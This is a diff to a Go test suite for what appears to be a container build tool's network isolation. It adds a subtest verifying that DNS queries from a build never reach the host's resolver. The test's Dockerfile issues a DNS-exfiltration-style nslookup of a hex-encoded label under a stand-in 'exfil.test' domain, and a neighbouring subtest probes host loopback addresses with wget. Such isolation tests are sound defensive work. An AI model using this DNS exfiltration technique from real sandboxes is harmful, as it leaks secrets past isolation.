@@ -283,6 +283,22 @@ func TestBuildNetwork(t *testing.T) {
 		eq(t, "--network=none", b.file("/none.txt"), "unreachable\n")
 	})
 
+	t.Run("DNS through the build's resolver alone", func(t *testing.T) {
+		hostNS, hostAsked := fakeNameserver(t)
+		savedGo, savedDial := net.DefaultResolver.PreferGo, net.DefaultResolver.Dial
+		net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = true, resolverAt(hostNS).Dial
+		defer func() { net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = savedGo, savedDial }()
+		df := "FROM busybox\nRUN (nslookup 73656372.exfil.test 10.0.2.2 >/dev/null 2>&1 && echo resolved || echo none) > /dns.txt\n"
+		b, err := buildDockerfile(t, df, t.TempDir(), append(opts, WithBuildDNSResolver(resolverAt("")))...)
+		if err != nil {
+			t.Fatal(err)
+		}
+		eq(t, "a name through a resolver that asks no nameserver", b.file("/dns.txt"), "none\n")
+		if names := hostAsked(); len(names) != 0 {
+			t.Errorf("the host's resolver was asked %q", names)
+		}
+	})
+
 	t.Run("the host's loopback with the default dialer", func(t *testing.T) {
 		_, port, _ := net.SplitHostPort(m.srv.Listener.Addr().String())
 		df := "FROM busybox\nRUN for a in 127.0.0.1:" + port + " 10.0.2.2:" + port + "; do wget -q -T 3 -O - http://$a/files/hello.txt && echo reached $a; done > /loop.txt; true\n"
